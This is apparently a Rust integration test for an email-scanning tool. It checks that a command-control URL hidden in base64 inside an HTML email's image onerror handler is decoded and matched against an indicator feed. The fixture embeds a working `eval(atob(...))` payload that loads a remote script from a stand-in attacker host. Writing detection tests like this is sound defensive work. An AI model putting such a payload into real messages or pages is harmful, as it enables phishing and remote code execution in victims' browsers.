//! Issue 15, "indicators out of decoded payloads": a message whose `<img
//! onerror>` decodes its C2 URL from base64 (`eval(atob('…'))`) is matched
//! against a feed that lists the URL (`--ioc`, the same matcher as the
//! stored sets): the scan's message finding (`VI002`) names the URL and how
//! it was decoded, and the message's verdict lists it; without the feed the
//! URL is still in the verdict, unmatched.

use assert_cmd::Command;
use serde_json::Value;

/// The C2 URL (documentation range), hidden in base64 inside the handler.
const C2: &str = "https://203.0.113.45/rc/collect.php";

/// Base64 of `var s=document.createElement('script');s.src='<C2>';document.body.appendChild(s)`.
const PAYLOAD: &str = "dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8vMjAzLjAuMTEzLjQ1L3JjL2NvbGxlY3QucGhwJztkb2N1bWVudC5ib2R5LmFwcGVuZENoaWxkKHMp";

fn message() -> String {
    let b64 = PAYLOAD;
    format!(
        "From: \"Billing\" <billing@lab-test.example>\r\nTo: alice@lab.test\r\nSubject: invoice 2291\r\nMessage-ID: <payload@lab-test.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>Your invoice</p><img src=\"x\" onerror=\"eval(atob('{b64}'))\"></body></html>\r\n"
    )
}

fn scan(dir: &std::path::Path, feed: Option<&std::path::Path>) -> (Option<i32>, Vec<Value>) {
    let case = dir.join(if feed.is_some() { "case-feed" } else { "case" });
    let mut cmd = Command::cargo_bin("vigie").unwrap();
    cmd.args(["scan", "--tz", "UTC", "--findings-only", "--no-intel-store"])
        .arg("--case")
        .arg(&case);
    if let Some(feed) = feed {
        cmd.arg("--ioc").arg(feed);
    }
    let out = cmd.arg(dir.join("invoice.eml")).output().unwrap();
    let findings = std::fs::read_to_string(case.join("findings.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (out.status.code(), findings)
}

#[test]
fn a_c2_url_decoded_from_an_onerror_handler_is_matched_against_the_feed() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("invoice.eml"), message()).unwrap();
    let feed = dir.path().join("c2.txt");
    std::fs::write(
        &feed,
        "# C2 of the campaign\nhxxps://203.0.113[.]45/rc/collect.php\n",
    )
    .unwrap();

    let (status, findings) = scan(dir.path(), Some(&feed));
    assert_eq!(status, Some(1));
    let matched: Vec<&Value> = findings
        .iter()
        .filter(|f| f["rule_id"] == "VI002")
        .collect();
    assert_eq!(matched.len(), 1, "{findings:#?}");
    let reason = matched[0]["reason"].as_str().unwrap();
    assert!(
        reason.contains(&format!("email.payload.url {C2} (decoded: atob)")),
        "{reason}"
    );
    assert!(reason.contains(&format!("matches url {C2}")), "{reason}");

    // The message's own finding lists the decoded URL in its verdict.
    let message = findings
        .iter()
        .find(|f| f["rule_id"] == "VM011" || f["rule_id"] == "VM014")
        .expect("the message is flagged");
    assert!(
        message["reason"].as_str().unwrap().contains(&format!(
            "VM041 payload_value in part 1: Url {C2} (decoded: atob)"
        )),
        "{message:#?}"
    );

    // A feed naming only the C2's address matches the decoded URL's host.
    let address = dir.path().join("c2-address.txt");
    std::fs::write(&address, "203.0.113[.]45\n").unwrap();
    std::fs::remove_dir_all(dir.path().join("case-feed")).unwrap();
    let (_, findings) = scan(dir.path(), Some(&address));
    assert!(
        findings.iter().any(|f| f["rule_id"] == "VI002"
            && f["reason"]
                .as_str()
                .unwrap()
                .contains("email.payload.host 203.0.113.45 (decoded: atob)")),
        "{findings:#?}"
    );

    // Without the feed, nothing is matched.
    let (_, findings) = scan(dir.path(), None);
    assert!(
        findings.iter().all(|f| f["rule_id"] != "VI002"),
        "{findings:#?}"
    );
}
